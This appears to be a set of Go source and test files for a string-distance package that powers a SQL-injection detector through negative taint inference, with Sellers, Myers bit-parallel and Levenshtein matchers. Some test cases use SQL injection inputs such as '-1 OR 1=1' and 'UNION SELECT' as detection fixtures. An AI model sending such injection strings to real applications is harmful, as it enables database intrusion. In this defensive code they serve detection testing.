		}
	}
}

func TestBitParallelBudget(t *testing.T) {
	input := strings.Repeat("x", 40)
	query := strings.Repeat("y", 4000)
	// Generous budget: same decision as unbudgeted.
	if _, found, _, err := BitParallelThresholdBudgetCtx(context.Background(), input, query, 0.2, 1<<24); err != nil || found {
		t.Fatalf("generous budget: found=%v err=%v", found, err)
	}
	// Tiny budget: the scan itself must charge cells and trip ErrBudget.
	_, _, _, err := BitParallelThresholdBudgetCtx(context.Background(), input, query, 0.2, 100)
	if !errors.Is(err, ErrBudget) {
		t.Fatalf("tiny budget: err=%v, want ErrBudget", err)
	}
}

func TestBitParallelCtxCancel(t *testing.T) {
	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	input := strings.Repeat("x", 40)
	query := strings.Repeat("x", 100000)
	_, _, _, err := BitParallelThresholdBudgetCtx(ctx, input, query, 0.2, 0)
	if !errors.Is(err, context.Canceled) {
		t.Fatalf("err=%v, want context.Canceled", err)
	}
}

// TestBitParallelZeroAlloc mirrors TestSubstringMatchZeroAlloc: once the
// pools are warm, neither scan width may allocate.
func TestBitParallelZeroAlloc(t *testing.T) {
	if raceEnabled {
		t.Skip("allocation counts are unreliable under -race")
	}
	short := randomText(rand.New(rand.NewSource(1)), 48)
	long := randomText(rand.New(rand.NewSource(2)), 90)
	query := randomText(rand.New(rand.NewSource(3)), 300)
	run := func(input string) {
		if _, _, _, err := BitParallelThresholdBudgetCtx(context.Background(), input, query, 0.2, 0); err != nil {
			t.Fatal(err)
		}
	}
	run(short)
	run(long) // warm wordPool
	allocs := testing.AllocsPerRun(100, func() {
		run(short)
		run(long)
	})
	if allocs != 0 {
		t.Fatalf("steady-state allocations = %v, want 0", allocs)
	}
}

func min3(a, b, c int) int {
	if b < a {
		a = b
	}
	if c < a {
		a = c
	}
	return a
}
