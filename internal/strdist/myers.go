// Myers' bit-parallel approximate matching: the inner loop of the
// threshold matcher, rewritten to compute 64 DP columns' worth of cells
// per machine word.
//
// The observation (Myers 1999) is that adjacent cells of the unit-cost
// edit DP differ by -1, 0 or +1, so a whole DP column (here: all rows of
// one query position) can be represented by two bit vectors — positive
// and negative vertical deltas — and advanced with a constant number of
// word operations. In Sellers "search" mode (row 0 pinned to zero, a
// match may start anywhere) the recurrence yields the DP's last row,
// dp[n][j], for every query position j: exactly the per-column candidate
// distances SubstringMatchThresholdBudgetCtx derives cell by cell.
//
// Bit-parallelism cannot cheaply track *where* a match started, and the
// matched span (with the package's distance/length/end tie-breaking) is
// part of the matcher contract. So the bit-parallel engine is split:
//
//   - a scan pass (this file) answers "does any query position end a
//     candidate within the distance cap?" at ~64 cells per word op, and
//   - only on a hit does the Sellers DP run to extract the span, with
//     its original tie-breaking, so results are bit-identical to the
//     cell-at-a-time matcher by construction.
//
// Misses — the overwhelming majority of input×query pairs on benign
// traffic — never run the cell-at-a-time DP at all.
package strdist

import (
	"context"
	"sync"
)

// wordsPerBlock is the pattern width one machine word covers.
const wordsPerBlock = 64

// wordPool recycles the block-state buffers of the multi-word scan
// (pattern masks plus the two delta vectors), mirroring rowPool's
// zero-steady-state-allocation discipline.
var wordPool = sync.Pool{
	New: func() any {
		s := make([]uint64, 0, 2*(256+2))
		return &s
	},
}

func getWords(n int) (*[]uint64, []uint64) {
	p := wordPool.Get().(*[]uint64)
	if cap(*p) < n {
		*p = make([]uint64, n)
	}
	buf := (*p)[:n]
	return p, buf
}

func putWords(p *[]uint64) { wordPool.Put(p) }

// MaxQualifyingDistance returns a safe upper bound on the edit distance
// of any substring match whose difference ratio is strictly below
// threshold, for an n-byte input against an m-byte query. A match of
// span length L has distance d ≥ |L−n| and needs d < threshold·L, so
// d < threshold·n/(1−threshold); and L ≤ m caps d < threshold·m. Any
// candidate above the returned bound provably cannot satisfy the
// threshold — the pruning fact behind both the bit-parallel scan cap and
// NTI's q-gram prefilter. A result of 0 means only exact occurrences can
// qualify.
func MaxQualifyingDistance(n int, threshold float64, m int) int {
	if n == 0 || m == 0 || threshold <= 0 {
		return 0
	}
	if threshold >= 1 {
		// Degenerate configuration: the length argument gives no bound
		// (dp values never exceed n anyway).
		return n
	}
	k := int(threshold * float64(n) / (1 - threshold))
	if k2 := int(threshold * float64(m)); k2 < k {
		k = k2
	}
	if k > n {
		k = n
	}
	return k
}

// BitParallelThresholdBudgetCtx is the bit-parallel drop-in for
// SubstringMatchThresholdBudgetCtx: same threshold semantics (strict
// inequality on the difference ratio), same tie-breaking, same ctx
// polling cadence and ErrBudget accounting.
//
// It first derives the tightest distance cap any qualifying match could
// carry (MaxQualifyingDistance) and runs the Myers scan under that cap.
// A scan miss proves no qualifying substring exists and returns
// found=false with no cell-at-a-time work; pruned is true because the
// scan abandoned the comparison early. On a hit — or for shapes where
// the scan cannot pay for itself — the Sellers matcher runs and its
// result is returned verbatim, so every found match is bit-identical to
// SubstringMatchThresholdBudgetCtx's. When found is false the returned
// Match is not meaningful (as documented on SubstringMatchThreshold).
func BitParallelThresholdBudgetCtx(ctx context.Context, input, query string, threshold float64, maxCells int) (m Match, found, pruned bool, err error) {
	n := len(input)
	mq := len(query)
	if n == 0 || mq == 0 {
		return SubstringMatchThresholdBudgetCtx(ctx, input, query, threshold, maxCells)
	}
	kScan := MaxQualifyingDistance(n, threshold, mq)
	if kScan >= n {
		// The scan would hit on its first column (dp[n][j] never exceeds
		// n); go straight to extraction.
		return SubstringMatchThresholdBudgetCtx(ctx, input, query, threshold, maxCells)
	}
	if n-mq > kScan {
		// Even consuming the whole query leaves too many input bytes
		// unmatched (mirrors the Sellers quick reject).
		return Match{Distance: n}, false, true, nil
	}
	blocks := (n + wordsPerBlock - 1) / wordsPerBlock
	if blocks > 1 && 3*blocks > kScan+1 {
		// Multi-word scan columns would cost about as much as the banded
		// Sellers columns they try to avoid; skip straight to the DP.
		return SubstringMatchThresholdBudgetCtx(ctx, input, query, threshold, maxCells)
	}
	var (
		hit   bool
		cells int
	)
	if blocks == 1 {
		hit, cells, err = myersScan64(ctx, input, query, kScan, maxCells)
	} else {
		hit, cells, err = myersScanBlocks(ctx, input, query, kScan, maxCells)
	}
	if err != nil {
		return Match{}, false, false, err
	}
	if !hit {
		return Match{Distance: n}, false, true, nil
	}
	if maxCells > 0 {
		maxCells -= cells
		if maxCells <= 0 {
			return Match{}, false, false, ErrBudget
		}
	}
	return SubstringMatchThresholdBudgetCtx(ctx, input, query, threshold, maxCells)
}

// myersScan64 is the single-word scan (len(input) ≤ 64). It reports
// whether any query position j has dp[n][j] ≤ k, charging len(input)
// cells per column against maxCells and polling ctx on the same cadence
// as the cell-at-a-time matchers.
func myersScan64(ctx context.Context, input, query string, k, maxCells int) (hit bool, cells int, err error) {
	n := len(input)
	var peq [256]uint64
	for i := 0; i < n; i++ {
		peq[input[i]] |= 1 << uint(i)
	}
	top := uint64(1) << uint(n-1)
	pv := ^uint64(0)
	mv := uint64(0)
	score := n
	done := ctx.Done()
	for j := 0; j < len(query); j++ {
		if done != nil && j&ctxCheckMask == 0 {
			select {
			case <-done:
				return false, cells, ctx.Err()
			default:
			}
		}
		if maxCells > 0 {
			if cells += n; cells > maxCells {
				return false, cells, ErrBudget
			}
		}
		eq := peq[query[j]]
		xv := eq | mv
		xh := (((eq & pv) + pv) ^ pv) | eq
		ph := mv | ^(xh | pv)
		mh := pv & xh
		if ph&top != 0 {
			score++
		} else if mh&top != 0 {
			score--
		}
		// Search mode: row 0 stays zero across columns, so the shifted-in
		// horizontal deltas are 0 (no "+1" carry of the global-distance
		// variant).
		ph <<= 1
		mh <<= 1
		pv = mh | ^(xv | ph)
		mv = ph & xv
		if score <= k {
			return true, cells, nil
		}
	}
	return false, cells, nil
}

// advanceBlock advances one 64-row block of the multi-word scan by one
// query column, taking the horizontal delta entering the block's bottom
// row (hin ∈ {-1,0,+1}) and returning the delta leaving its top row.
func advanceBlock(pv, mv *uint64, eq uint64, top uint64, hin int) int {
	xv := eq | *mv
	if hin < 0 {
		eq |= 1
	}
	xh := (((eq & *pv) + *pv) ^ *pv) | eq
	ph := *mv | ^(xh | *pv)
	mh := *pv & xh
	hout := 0
	if ph&top != 0 {
		hout = 1
	} else if mh&top != 0 {
		hout = -1
	}
	ph <<= 1
	mh <<= 1
	if hin > 0 {
		ph |= 1
	} else if hin < 0 {
		mh |= 1
	}
	*pv = mh | ^(xv | ph)
	*mv = ph & xv
	return hout
}

// myersScanBlocks is the multi-word scan for inputs longer than 64
// bytes: ⌈n/64⌉ blocks per column, horizontal deltas carried between
// blocks, score tracked at the pattern's last row. Semantics match
// myersScan64.
func myersScanBlocks(ctx context.Context, input, query string, k, maxCells int) (hit bool, cells int, err error) {
	n := len(input)
	blocks := (n + wordsPerBlock - 1) / wordsPerBlock
	tok, buf := getWords((256 + 2) * blocks)
	defer putWords(tok)
	peq := buf[:256*blocks]
	for i := range peq {
		peq[i] = 0
	}
	pv := buf[256*blocks : 257*blocks]
	mv := buf[257*blocks : 258*blocks]
	for b := 0; b < blocks; b++ {
		pv[b] = ^uint64(0)
		mv[b] = 0
	}
	for i := 0; i < n; i++ {
		peq[int(input[i])*blocks+i/wordsPerBlock] |= 1 << uint(i%wordsPerBlock)
	}
	lastTop := uint64(1) << uint((n-1)%wordsPerBlock)
	score := n
	done := ctx.Done()
	for j := 0; j < len(query); j++ {
		if done != nil && j&ctxCheckMask == 0 {
			select {
			case <-done:
				return false, cells, ctx.Err()
			default:
			}
		}
		if maxCells > 0 {
			if cells += n; cells > maxCells {
				return false, cells, ErrBudget
			}
		}
		c := int(query[j]) * blocks
		hin := 0
		for b := 0; b < blocks-1; b++ {
			hin = advanceBlock(&pv[b], &mv[b], peq[c+b], 1<<63, hin)
		}
		score += advanceBlock(&pv[blocks-1], &mv[blocks-1], peq[c+blocks-1], lastTop, hin)
		if score <= k {
			return true, cells, nil
		}
	}
	return false, cells, nil
}
