// Package strdist implements the approximate string-matching primitives
// used by negative taint inference (NTI).
//
// NTI must find, for each application input, the substring of the SQL query
// that is closest to the input in edit distance, and decide whether the
// "difference ratio" — edit distance divided by the length of the matched
// query substring — is below a threshold. A ratio of zero means the input
// appears verbatim in the query.
//
// Two matchers are provided:
//
//   - SubstringMatch: Sellers' algorithm, a dynamic program over the query
//     with a free start position, running in O(len(input)·len(query)) time
//     and O(len(input)) extra memory per column pair. This is the optimized
//     matcher Joza uses in production.
//   - NaiveSubstringMatch: the textbook O(n²·m²) formulation that compares
//     every query substring to the input with full-matrix Levenshtein. It is
//     retained as the ablation baseline for the paper's discussion of NTI
//     cost (Section III-A) and is used only by benchmarks and tests.
package strdist

import (
	"context"
	"errors"
	"sync"
)

// ErrBudget is returned by the budgeted matchers when the dynamic program
// exceeded its cell budget before finishing. It bounds the work one
// hostile input/query pair can extract from the O(n·m) DP — an
// algorithmic-complexity cap, distinct from a context deadline, so a
// saturated host still cuts oversized matches off deterministically.
var ErrBudget = errors.New("strdist: DP cell budget exhausted")

// ctxCheckMask throttles context polling inside the DP loops: the done
// channel is sampled once every ctxCheckMask+1 query columns, so a
// canceled context stops a long match within a few thousand cell updates
// while the uncancelable path (ctx.Done() == nil) pays a single nil check
// per column block.
const ctxCheckMask = 255

// rowPool recycles the DP rows of every matcher in this package. All four
// matchers slice one pooled buffer into their rows, so steady-state
// matching performs zero heap allocations — the per-query cost Joza's
// Section VI optimizations target.
var rowPool = sync.Pool{
	New: func() any {
		s := make([]int, 0, 512)
		return &s
	},
}

// getRows returns a pooled []int of length n (contents undefined) and the
// pool token to hand back via putRows.
func getRows(n int) (*[]int, []int) {
	p := rowPool.Get().(*[]int)
	if cap(*p) < n {
		*p = make([]int, n)
	}
	buf := (*p)[:n]
	return p, buf
}

func putRows(p *[]int) { rowPool.Put(p) }

// Levenshtein returns the edit distance between a and b using unit costs for
// insertion, deletion and substitution. It uses two rolling rows, so memory
// is O(min side handled by caller); time is O(len(a)·len(b)).
func Levenshtein(a, b string) int {
	if a == b {
		return 0
	}
	if len(a) == 0 {
		return len(b)
	}
	if len(b) == 0 {
		return len(a)
	}
	// Keep the inner dimension (row width) as the shorter string.
	if len(b) > len(a) {
		a, b = b, a
	}
	tok, buf := getRows(2 * (len(b) + 1))
	defer putRows(tok)
	prev := buf[: len(b)+1 : len(b)+1]
	cur := buf[len(b)+1:]
	for j := 0; j <= len(b); j++ {
		prev[j] = j
	}
	for i := 1; i <= len(a); i++ {
		cur[0] = i
		ai := a[i-1]
		for j := 1; j <= len(b); j++ {
			cost := 1
			if ai == b[j-1] {
				cost = 0
			}
			m := prev[j-1] + cost        // substitution / match
			if d := prev[j] + 1; d < m { // deletion from a
				m = d
			}
			if d := cur[j-1] + 1; d < m { // insertion into a
				m = d
			}
			cur[j] = m
		}
		prev, cur = cur, prev
	}
	return prev[len(b)]
}

// Match describes the best approximate occurrence of an input inside a query.
type Match struct {
	// Start and End delimit the matched query substring, query[Start:End).
	Start int
	End   int
	// Distance is the edit distance between the input and the matched
	// substring.
	Distance int
}

// Ratio returns the difference ratio of the match: edit distance divided by
// the length of the matched query substring. An empty match yields +Inf-like
// behaviour via a ratio greater than any threshold (returns 1e9).
func (m Match) Ratio() float64 {
	n := m.End - m.Start
	if n <= 0 {
		return 1e9
	}
	return float64(m.Distance) / float64(n)
}

// SubstringMatch finds the substring of query with minimum edit distance to
// input, using Sellers' approximate matching algorithm: a Levenshtein DP in
// which row 0 is all zeros (a match may begin at any query position) and the
// answer is the minimum of the last row (a match may end at any position).
//
// Ties on distance are broken in favour of the longest matched substring,
// which minimizes the difference ratio, and then the earliest end position.
// The returned Match reports the matched span and distance. If input is
// empty, a zero-length match at position 0 with distance 0 is returned.
func SubstringMatch(input, query string) Match {
	m, _ := SubstringMatchCtx(context.Background(), input, query)
	return m
}

// SubstringMatchCtx is SubstringMatch with cooperative cancellation: the
// DP loop polls ctx every few hundred query columns and returns ctx's
// error mid-match. A context that cannot be canceled (ctx.Done() == nil,
// e.g. context.Background()) adds no per-column work.
func SubstringMatchCtx(ctx context.Context, input, query string) (Match, error) {
	return substringMatchBudget(ctx, input, query, 0)
}

// substringMatchBudget is the Sellers DP core. maxCells > 0 bounds the
// number of DP cells computed; exceeding it returns ErrBudget. The budget
// is charged per column (the row width), so the check adds one compare per
// column, not per cell.
func substringMatchBudget(ctx context.Context, input, query string, maxCells int) (Match, error) {
	n := len(input)
	m := len(query)
	if n == 0 {
		return Match{}, nil
	}
	if m == 0 {
		return Match{Distance: n}, nil
	}
	done := ctx.Done()
	// dp[i] = edit distance between input[:i] and the best-ending-here
	// suffix of query[:j]. start[i] = start index in query of that match.
	w := n + 1
	tok, buf := getRows(4 * w)
	defer putRows(tok)
	dp := buf[0*w : 1*w : 1*w]
	start := buf[1*w : 2*w : 2*w]
	ndp := buf[2*w : 3*w : 3*w]
	nstart := buf[3*w : 4*w : 4*w]
	for i := 0; i <= n; i++ {
		dp[i] = i
		start[i] = 0
	}
	best := Match{Start: 0, End: 0, Distance: dp[n]}
	cells := 0
	for j := 1; j <= m; j++ {
		if done != nil && j&ctxCheckMask == 0 {
			select {
			case <-done:
				return Match{}, ctx.Err()
			default:
			}
		}
		if maxCells > 0 {
			if cells += n; cells > maxCells {
				return Match{}, ErrBudget
			}
		}
		ndp[0] = 0
		nstart[0] = j // a match starting at j (empty prefix consumed)
		qc := query[j-1]
		for i := 1; i <= n; i++ {
			cost := 1
			if input[i-1] == qc {
				cost = 0
			}
			// diagonal: extend match by consuming input[i-1] and query[j-1]
			d := dp[i-1] + cost
			s := start[i-1]
			// up: delete input[i-1] (input char unmatched)
			if v := ndp[i-1] + 1; v < d {
				d = v
				s = nstart[i-1]
			}
			// left: insert query[j-1] (extra query char inside match)
			if v := dp[i] + 1; v < d {
				d = v
				s = start[i]
			}
			ndp[i] = d
			nstart[i] = s
		}
		dp, ndp = ndp, dp
		start, nstart = nstart, start
		// Candidate match ending at j.
		cand := Match{Start: start[n], End: j, Distance: dp[n]}
		if better(cand, best) {
			best = cand
		}
	}
	return best, nil
}

// better reports whether a is a strictly better match than b: lower distance
// wins; on equal distance the longer matched substring wins (lower ratio);
// on equal length the earlier end wins.
func better(a, b Match) bool {
	if a.Distance != b.Distance {
		return a.Distance < b.Distance
	}
	al, bl := a.End-a.Start, b.End-b.Start
	if al != bl {
		return al > bl
	}
	return a.End < b.End
}

// SubstringMatchThreshold is the threshold-aware variant of
// SubstringMatch used by NTI: it looks for a substring of query whose
// difference ratio against input is strictly below threshold, and abandons
// work that provably cannot produce one.
//
// Any qualifying match has distance < threshold·len(matched) ≤
// threshold·len(query), so the DP is run with a distance cap kMax =
// ⌊threshold·len(query)⌋ and Ukkonen's last-active-cell cut-off: rows past
// the deepest cell still within the cap are abandoned, because the
// diagonal monotonicity of the unit-cost edit DP guarantees every later
// value in those rows stays above the cap — even a perfect remaining
// suffix cannot push the ratio back under threshold. Expected cost drops
// from O(n·m) to O(kMax·m); for long non-matching inputs (the case the
// exact-substring fast path does not catch) this skips most of the table.
//
// found reports whether the returned match's ratio is below threshold;
// when found is false the returned Match carries the best capped candidate
// seen and is not meaningful. pruned reports whether the cut-off actually
// skipped work (the "early exit" counted by joza.Metrics).
//
// When found is true the match is identical to what SubstringMatch would
// select among qualifying candidates: every cell on an optimal path of a
// qualifying match holds a value within the cap, so the banded DP computes
// those candidates exactly and applies the same tie-breaking.
func SubstringMatchThreshold(input, query string, threshold float64) (m Match, found, pruned bool) {
	m, found, pruned, _ = SubstringMatchThresholdCtx(context.Background(), input, query, threshold)
	return m, found, pruned
}

// SubstringMatchThresholdCtx is SubstringMatchThreshold with cooperative
// cancellation: the banded DP polls ctx every few hundred query columns —
// the cancellation checkpoint for long NTI matches — and returns ctx's
// error mid-match. An uncancelable ctx adds no per-column work.
func SubstringMatchThresholdCtx(ctx context.Context, input, query string, threshold float64) (m Match, found, pruned bool, err error) {
	return SubstringMatchThresholdBudgetCtx(ctx, input, query, threshold, 0)
}

// SubstringMatchThresholdBudgetCtx is SubstringMatchThresholdCtx with a
// work budget: maxCells > 0 caps the DP cells this match may compute
// (counting the band actually walked, so pruned columns charge only their
// band width), and the match returns ErrBudget once the cap is crossed.
// maxCells <= 0 means unlimited. NTI uses this to bound the cost one
// hostile input/query pair can extract regardless of wall-clock deadline.
func SubstringMatchThresholdBudgetCtx(ctx context.Context, input, query string, threshold float64, maxCells int) (m Match, found, pruned bool, err error) {
	n := len(input)
	mq := len(query)
	if n == 0 {
		return Match{}, false, false, nil
	}
	if mq == 0 {
		return Match{Distance: n}, false, false, nil
	}
	kMax := int(threshold * float64(mq))
	if kMax >= n {
		// The cap cannot prune anything (dp values never exceed n);
		// run the plain matcher under the same budget.
		best, err := substringMatchBudget(ctx, input, query, maxCells)
		if err != nil {
			return Match{}, false, false, err
		}
		return best, best.Ratio() < threshold, false, nil
	}
	if n-mq > kMax {
		// Even consuming the whole query leaves more than kMax input
		// bytes unmatched.
		return Match{Distance: n}, false, true, nil
	}
	done := ctx.Done()
	inf := kMax + 1
	w := n + 1
	tok, buf := getRows(4 * w)
	defer putRows(tok)
	dp := buf[0*w : 1*w : 1*w]
	start := buf[1*w : 2*w : 2*w]
	ndp := buf[2*w : 3*w : 3*w]
	nstart := buf[3*w : 4*w : 4*w]
	for i := 0; i <= n; i++ {
		if i <= kMax {
			dp[i] = i
		} else {
			dp[i] = inf
		}
		start[i] = 0
	}
	// lac is the last active cell: the deepest row whose value is within
	// the cap. Rows beyond lac+1 are never computed.
	lac := kMax
	best := Match{Start: 0, End: 0, Distance: n}
	haveCand := false
	cells := 0
	for j := 1; j <= mq; j++ {
		if done != nil && j&ctxCheckMask == 0 {
			select {
			case <-done:
				return Match{}, false, false, ctx.Err()
			default:
			}
		}
		ndp[0] = 0
		nstart[0] = j
		lim := lac + 1
		if lim >= n {
			lim = n
		} else {
			pruned = true
		}
		if maxCells > 0 {
			if cells += lim; cells > maxCells {
				return Match{}, false, pruned, ErrBudget
			}
		}
		qc := query[j-1]
		for i := 1; i <= lim; i++ {
			cost := 1
			if input[i-1] == qc {
				cost = 0
			}
			d := dp[i-1] + cost
			s := start[i-1]
			if v := ndp[i-1] + 1; v < d {
				d = v
				s = nstart[i-1]
			}
			if v := dp[i] + 1; v < d {
				d = v
				s = start[i]
			}
			if d > inf {
				d = inf
			}
			ndp[i] = d
			nstart[i] = s
		}
		dp, ndp = ndp, dp
		start, nstart = nstart, start
		// Re-derive the last active cell; it moves down by at most one
		// per column and up by any amount.
		lac = lim
		for lac > 0 && dp[lac] > kMax {
			lac--
		}
		if lac < n {
			// Sentinel so the next column's left-moves read "over cap"
			// instead of a stale value.
			dp[lac+1] = inf
			start[lac+1] = j
		}
		if lim == n && dp[n] <= kMax {
			cand := Match{Start: start[n], End: j, Distance: dp[n]}
			if !haveCand || better(cand, best) {
				best = cand
				haveCand = true
			}
		}
	}
	return best, haveCand && best.Ratio() < threshold, pruned, nil
}

// NaiveSubstringMatch is the unoptimized O(n²·m²)-flavoured matcher: per
// end position it evaluates full-matrix Levenshtein against every starting
// position, exactly the textbook formulation whose cost the paper's
// optimizations remove. It returns the same Match as SubstringMatch,
// bit-identically: the per-end best distance equals the Sellers column
// minimum, the reported start is the one Sellers' forward propagation
// tracks for that end (recovered by sellersStarts), and ends compete under
// the same better() tie-break. Benchmarks use it as the cost baseline;
// tests and the fuzz harness use it as the independent oracle every
// optimized engine must reproduce.
func NaiveSubstringMatch(input, query string) Match {
	n := len(input)
	m := len(query)
	if n == 0 {
		return Match{}
	}
	starts := sellersStarts(input, query)
	best := Match{Start: 0, End: 0, Distance: n}
	for j := 1; j <= m; j++ {
		// Textbook enumeration: best distance over every start for this
		// end (d starts at n, the empty substring's distance).
		d := n
		for i := 0; i < j; i++ {
			if ld := Levenshtein(input, query[i:j]); ld < d {
				d = ld
			}
		}
		cand := Match{Start: starts[j], End: j, Distance: d}
		if better(cand, best) {
			best = cand
		}
	}
	return best
}

// sellersStarts computes, for every end column j, the start position the
// Sellers DP's forward start propagation assigns to the best match ending
// at j. It fills the full (n+1)×(m+1) matrix (row 0 zero: free start) and
// backtracks each end column with the propagation's exact tie-break —
// diagonal, then up (input deletion), then left (query insertion), a later
// move winning only by strict improvement — so the recovered start is the
// one SubstringMatch reports, not merely one of the optimal starts.
func sellersStarts(input, query string) []int {
	n := len(input)
	m := len(query)
	d := make([][]int, n+1)
	for i := range d {
		d[i] = make([]int, m+1)
		d[i][0] = i
	}
	for j := 1; j <= m; j++ {
		qc := query[j-1]
		for i := 1; i <= n; i++ {
			cost := 1
			if input[i-1] == qc {
				cost = 0
			}
			v := d[i-1][j-1] + cost
			if u := d[i-1][j] + 1; u < v {
				v = u
			}
			if l := d[i][j-1] + 1; l < v {
				v = l
			}
			d[i][j] = v
		}
	}
	starts := make([]int, m+1)
	for j := range starts {
		starts[j] = backtrackStart(d, input, query, n, j)
	}
	return starts
}

// backtrackStart walks one optimal path from cell (i, j) back to row 0,
// choosing at each step the predecessor the forward propagation would have
// charged the cell to: diagonal when it attains the cell's value, else up,
// else left. Row 0 means the match starts at the current column; column 0
// means the path consumed the whole query prefix, so the match starts at 0
// (the initial column's propagated start).
func backtrackStart(d [][]int, input, query string, i, j int) int {
	for i > 0 && j > 0 {
		v := d[i][j]
		cost := 1
		if input[i-1] == query[j-1] {
			cost = 0
		}
		switch {
		case d[i-1][j-1]+cost == v:
			i--
			j--
		case d[i-1][j]+1 == v:
			i--
		default:
			j--
		}
	}
	if i == 0 {
		return j
	}
	return 0
}

// BoundedLevenshtein returns the edit distance between a and b, or bound+1
// if the distance exceeds bound. The Ukkonen band cut-off makes rejecting
// distant strings cheap, which NTI uses to prune implausible comparisons.
func BoundedLevenshtein(a, b string, bound int) int {
	if bound < 0 {
		return 0
	}
	la, lb := len(a), len(b)
	if la-lb > bound || lb-la > bound {
		return bound + 1
	}
	if la == 0 {
		return lb
	}
	if lb == 0 {
		return la
	}
	tok, buf := getRows(2 * (lb + 1))
	defer putRows(tok)
	prev := buf[: lb+1 : lb+1]
	cur := buf[lb+1:]
	for j := 0; j <= lb; j++ {
		prev[j] = j
	}
	for i := 1; i <= la; i++ {
		cur[0] = i
		rowMin := cur[0]
		ai := a[i-1]
		for j := 1; j <= lb; j++ {
			cost := 1
			if ai == b[j-1] {
				cost = 0
			}
			m := prev[j-1] + cost
			if d := prev[j] + 1; d < m {
				m = d
			}
			if d := cur[j-1] + 1; d < m {
				m = d
			}
			cur[j] = m
			if m < rowMin {
				rowMin = m
			}
		}
		if rowMin > bound {
			return bound + 1
		}
		prev, cur = cur, prev
	}
	if prev[lb] > bound {
		return bound + 1
	}
	return prev[lb]
}
