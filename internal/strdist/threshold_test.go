package strdist

import (
	"math/rand"
	"strings"
	"testing"
)

// refThreshold is the specification SubstringMatchThreshold must follow:
// the plain matcher's best match, accepted iff its ratio is under
// threshold.
func refThreshold(input, query string, threshold float64) (Match, bool) {
	m := SubstringMatch(input, query)
	return m, m.Ratio() < threshold
}

func TestSubstringMatchThresholdAgreesWithPlain(t *testing.T) {
	cases := []struct {
		input, query string
	}{
		{"-1 OR 1=1", "SELECT * FROM data WHERE ID=-1 OR 1=1"},
		{"-1 OR 1=1 ", "SELECT * FROM t WHERE id=-1 OR 1=1"},
		{`-1 OR 1=1 /*'''''*/`, `SELECT * FROM data WHERE ID=-1 OR 1=1 /*\'\'\'\'\'*/`},
		{"LTEgT1IgMT0x", "SELECT * FROM ads WHERE id=-1 OR 1=1"},
		{"hello world", "SELECT 1"},
		{"abc", ""},
		{"", "SELECT 1"},
		{strings.Repeat("z", 200), "SELECT id FROM posts WHERE title LIKE '%zzz%'"},
		{"union select", "SELECT * FROM t WHERE a=1 UNION SELECT b FROM u"},
	}
	for _, th := range []float64{0.05, 0.20, 0.50} {
		for _, c := range cases {
			wantM, wantOK := refThreshold(c.input, c.query, th)
			gotM, gotOK, _ := SubstringMatchThreshold(c.input, c.query, th)
			if gotOK != wantOK {
				t.Errorf("th=%.2f input=%q query=%q: found=%v, want %v",
					th, c.input, c.query, gotOK, wantOK)
				continue
			}
			if gotOK && gotM != wantM {
				t.Errorf("th=%.2f input=%q query=%q: match=%+v, want %+v",
					th, c.input, c.query, gotM, wantM)
			}
		}
	}
}

func TestSubstringMatchThresholdRandomizedEquivalence(t *testing.T) {
	rng := rand.New(rand.NewSource(7))
	alphabet := "abcdeE =OR'-1*/"
	randStr := func(n int) string {
		var b strings.Builder
		for i := 0; i < n; i++ {
			b.WriteByte(alphabet[rng.Intn(len(alphabet))])
		}
		return b.String()
	}
	for iter := 0; iter < 2000; iter++ {
		input := randStr(1 + rng.Intn(30))
		query := randStr(1 + rng.Intn(60))
		th := []float64{0.1, 0.2, 0.35}[rng.Intn(3)]
		wantM, wantOK := refThreshold(input, query, th)
		gotM, gotOK, _ := SubstringMatchThreshold(input, query, th)
		if gotOK != wantOK {
			t.Fatalf("iter %d: input=%q query=%q th=%.2f: found=%v want %v (plain match %+v)",
				iter, input, query, th, gotOK, wantOK, wantM)
		}
		if gotOK && gotM != wantM {
			t.Fatalf("iter %d: input=%q query=%q th=%.2f: match=%+v want %+v",
				iter, input, query, th, gotM, wantM)
		}
	}
}

func TestSubstringMatchThresholdPrunes(t *testing.T) {
	// A long input nowhere near the query must trip the band cut-off.
	input := strings.Repeat("x", 120)
	query := "SELECT id, title, body FROM posts WHERE id=42 ORDER BY id DESC"
	_, found, pruned := SubstringMatchThreshold(input, query, 0.20)
	if found {
		t.Error("junk input reported as matching")
	}
	if !pruned {
		t.Error("band cut-off did not engage for a hopeless long input")
	}
	// A verbatim input must still be found, same span as the plain matcher.
	payload := "-1 OR 1=1"
	q := "SELECT * FROM data WHERE ID=-1 OR 1=1"
	m, found, _ := SubstringMatchThreshold(payload, q, 0.20)
	if !found || m.Distance != 0 || q[m.Start:m.End] != payload {
		t.Errorf("verbatim payload: match=%+v found=%v", m, found)
	}
}

func TestSubstringMatchZeroAlloc(t *testing.T) {
	if raceEnabled {
		t.Skip("sync.Pool drops items under the race detector")
	}
	input := "-1 OR 1=1 "
	query := "SELECT * FROM t WHERE id=-1 OR 1=1"
	// Warm the pool.
	SubstringMatch(input, query)
	if allocs := testing.AllocsPerRun(200, func() {
		SubstringMatch(input, query)
	}); allocs != 0 {
		t.Errorf("SubstringMatch allocs/op = %v, want 0", allocs)
	}
	SubstringMatchThreshold(input, query, 0.2)
	if allocs := testing.AllocsPerRun(200, func() {
		SubstringMatchThreshold(input, query, 0.2)
	}); allocs != 0 {
		t.Errorf("SubstringMatchThreshold allocs/op = %v, want 0", allocs)
	}
	Levenshtein("kitten", "sitting")
	if allocs := testing.AllocsPerRun(200, func() {
		Levenshtein("kitten", "sitting")
	}); allocs != 0 {
		t.Errorf("Levenshtein allocs/op = %v, want 0", allocs)
	}
	BoundedLevenshtein("kitten", "sitting", 5)
	if allocs := testing.AllocsPerRun(200, func() {
		BoundedLevenshtein("kitten", "sitting", 5)
	}); allocs != 0 {
		t.Errorf("BoundedLevenshtein allocs/op = %v, want 0", allocs)
	}
}

func BenchmarkSubstringMatchThreshold(b *testing.B) {
	input := strings.Repeat("security notes ", 4) // 60 bytes, no match
	query := "SELECT id, title, body FROM posts WHERE id=42 ORDER BY id DESC LIMIT 10"
	b.Run("banded", func(b *testing.B) {
		b.ReportAllocs()
		for i := 0; i < b.N; i++ {
			SubstringMatchThreshold(input, query, 0.20)
		}
	})
	b.Run("plain", func(b *testing.B) {
		b.ReportAllocs()
		for i := 0; i < b.N; i++ {
			SubstringMatch(input, query)
		}
	})
}
