//go:build !race

package strdist

// raceEnabled reports whether the race detector is active.
const raceEnabled = false
