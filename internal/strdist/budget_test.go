package strdist

import (
	"context"
	"errors"
	"strings"
	"testing"
)

func TestSubstringMatchBudgetExhausted(t *testing.T) {
